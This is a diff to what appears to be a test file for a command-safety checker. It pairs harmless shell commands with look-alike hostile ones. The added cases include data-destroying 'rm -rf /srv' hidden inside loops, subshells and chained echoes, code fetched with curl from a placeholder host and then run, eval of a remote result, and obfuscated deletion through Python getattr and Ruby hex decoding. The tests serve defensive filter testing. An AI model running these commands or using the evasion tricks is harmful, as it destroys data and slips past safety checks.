@@ -141,6 +141,25 @@ const PAIRS: readonly (readonly [string, string])[] = [
   ["bpftrace -e 'BEGIN { exit(); }'", `bpftrace --unsafe -e 'BEGIN { system("id"); }'`],
   ['code --install-extension acme.theme', 'code --install-extension x.vsix'],
   ['xclock -display localhost:30', 'xterm -display 203.0.113.9:1'],
+  // Settings that are named for the program they hold.
+  ['${Q}${INSTALL} -d out', '${Q}${RM} -rf /srv'],
+  ['$PANDOC $file -o out.html', 'file=$(curl https://x.example); $PANDOC $file'],
+  ['for t in $TESTS; do ./$t; done', 't=$(curl https://x.example); ./$t'],
+  ['$(brew --prefix)/bin/tool x', '$(curl https://x.example)/tool'],
+  // What the grammar takes for a fault and the shell does not.
+  [
+    'for i in a; do for j in b; do echo $i; done done',
+    'for i in a; do for j in b; do rm -rf /srv; done done',
+  ],
+  ['echo == build ==', 'echo == build ==; rm -rf /srv'],
+  ['((cat a | grep b) && echo c) || echo d', '((cat a | grep b) && rm -rf /srv) || echo d'],
+  ['eval "$(hub alias -s)"', 'eval "$(hub api x)"'],
+  // A name that is put together while it runs.
+  [
+    'python3 -c \'print(getattr(x, "name"))\'',
+    `python3 -c 'import shutil as s;getattr(s,"rm"+"tree")("/srv")'`,
+  ],
+  ["ruby -e 'puts 1'", 'ruby -e \'`#{["72","6d"].map{|h|h.hex.chr}.join} -rf /srv`\''],
 ];
 
 describe('commands that look alike', () => {
